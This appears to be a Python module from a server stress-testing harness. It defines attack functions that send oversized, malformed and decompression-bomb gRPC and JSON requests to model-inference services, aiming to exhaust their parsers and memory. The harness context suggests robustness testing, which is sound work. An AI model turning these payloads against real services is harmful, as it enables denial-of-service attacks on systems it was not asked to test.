"""gRPC: messages that lie, and that grow in the parser."""

from long_json import in_turns
from peer import GRPC, H2, JSON, data, grpc_message, packed, pb, post, varint
from registry import attack

PATH = '/inference.GRPCInferenceService/ModelInfer'


def calls(target, bodies, path=PATH, extra=GRPC):
    """Unary calls with these bodies, 50 to a connection."""
    sent = 0
    while not target.over():
        with H2(target, wait=5) as h2:
            for i in range(50):
                body = bodies[i % len(bodies)]
                stream = 2 * i + 1
                h2.send(h2.head(stream, path, 'POST', end=False, extra=extra))
                for at in range(0, max(len(body), 1), 16000):
                    h2.send(data(stream, body[at:at + 16000], end=at + 16000 >= len(body)))
                    if target.over() or not h2.pump():
                        break
                sent += 1
                while not target.over() and stream not in h2.closed_streams and h2.pump(0.1):
                    pass
                if target.over() or not h2.alive:
                    break
    return f'{sent} calls'


@attack(quick=2.5)
def protobuf_that_grows(target):
    """A megabyte of empty tensors, of empty strings, of map entries, of unknown groups."""
    count = target.size(500_000, 200_000)
    bodies = [pb(1, 'identity') + pb(5, b'') * count, pb(1, 'identity') + pb(7, b'') * count, pb(1, 'identity') + pb(4, b'') * count,
              pb(1, 'identity') + pb(5, pb(1, 'x') + pb(2, 'BYTES') + pb(3, varint(1)) + pb(5, pb(8, b'') * count)),
              pb(1, 'identity') + b'\x9b\x06' * 50_000]
    return calls(target, [grpc_message(b) for b in bodies])


@attack(seconds=20, quick=5)
def protobuf_of_tiny_fields(target):
    """Messages of 60 MiB whose fields have two bytes each, to every service: names that come again, unknown ones, elements one by one."""
    size = target.size(60, 24) << 20
    fill = lambda octets: octets * (size // len(octets))
    unknown, again = fill(b'\x78\x01'), fill(pb(1, b''))
    infer = '/inference.GRPCInferenceService/'
    tensor = lambda count, elements: pb(2, 'identity') + pb(5, pb(1, pb(1, 'x') + b'\x10\1' + pb(3, varint(count)) + elements))  # of UINT8
    requests = [('/grpc.health.v1.Health/Check', unknown), ('/grpc.health.v1.Health/Check', again), (infer + 'ModelReady', unknown),
                ('/grpc.reflection.v1.ServerReflection/ServerReflectionInfo', fill(b'\x7b\x7c')),
                (infer + 'ModelInfer', fill(pb(3, b''))), (infer + 'ModelInfer', pb(1, 'identity') + pb(5, again)), (infer + 'ModelStreamInfer', again),
                (infer + 'RepositoryModelLoad', again), ('/grps.protos.v1.GrpsService/Predict', fill(pb(2, b''))),
                ('/grps.protos.v1.GrpsService/Predict', tensor(size // 2, fill(b'\x20\x01'))),
                ('/grps.protos.v1.GrpsService/Predict', tensor(size, pb(4, fill(b'\x01')))),
                ('/grps.protos.v1.GrpsService/Online', tensor(size, pb(4, fill(b'\x01')))),
                ('/salience.v1.Salience/Generate', fill(b'\x10\x01')), ('/salience.v1.Salience/Generate', pb(2, fill(b'\x01'))),
                ('/salience.v1.Salience/Generate', fill(pb(14, b''))), ('/evergreen.v2.EvergreenService/StartSession', pb(1, again)),
                ('/weir.forward.v1.Forward/Generate', again)]
    group = b'\x0b' + fill(b'\x78\x01') + b'\x0c'
    requests += [(infer + 'ModelInfer', group), ('/salience.v1.Salience/Generate', group), ('/salience.v1.Salience/Generate', fill(b'\x0b' + b'\x78\x01' * 30_000 + b'\x0c')),
                 (infer + 'RepositoryModelLoad', pb(3, pb(1, 'k') + pb(2, unknown))), ('/weir.forward.v1.Forward/Generate', pb(7, b'\x78\0' * (2 << 20)))]
    asked = [(path, post(path, grpc_message(message), ('Content-Type', 'application/grpc-web+proto'))) for path, message in requests]
    asked += [(path, post(path, body, JSON)) for path, body in (
        ('/v2/repository/index', b'{%s"":null}' % fill(b'"":null,')), ('/v2/repository/index', fill(b' ')),
        ('/v2/systemsharedmemory/region/x/register', b'{"a":[%s0]}' % fill(b'0,')), ('/v2/trace/setting', b'{%s"":""}' % fill(b'"":"",')))]
    said = in_turns(target, asked)
    if '404' in said or '415' in said:
        raise RuntimeError(f'not every path is there: {said}')
    return said


@attack(quick=2.5)
def grpc_framing(target):
    """Lengths beyond the limit, flags that are none, left-over bytes, gzip that is none, and 62 MiB of zeros in 64 KB."""
    coded = (*GRPC, ('grpc-encoding', 'gzip'))
    bodies = [b'\0\xff\xff\xff\xff' + b'abc', b'\2\0\0\0\0', grpc_message(b'') + b'xyz', b'\0\0\0\0\x0ashort', grpc_message(packed(bytes(62 << 20), 9), 1),
              grpc_message(b'no gzip', 1), b'']
    return calls(target, bodies, extra=coded)


@attack(quick=2.5)
def grpc_metadata(target):
    """Bad base64 in -bin, timeouts that are none, te that is none, methods that nobody knows."""
    fields = [(('x-bin', '!!!'),), (('grpc-timeout', '99999999H'),), (('grpc-timeout', '1x'),), (('grpc-timeout', ''),), (('x-long', 'y' * 120),),
              (('te', 'x' * 120),)]
    sent = 0
    while not target.over():
        with H2(target, wait=5) as h2:
            for i in range(100):
                extra = (('content-type', 'application/grpc'), *fields[i % len(fields)])
                path = PATH if i % 7 else f'/no.Such/M{i}'
                h2.send(h2.head(2 * i + 1, path, 'POST', end=False, extra=extra) + data(2 * i + 1, grpc_message(b'')))
                sent += 1
                if not h2.pump():
                    break
            h2.pump(0.2)
    return f'{sent} calls'
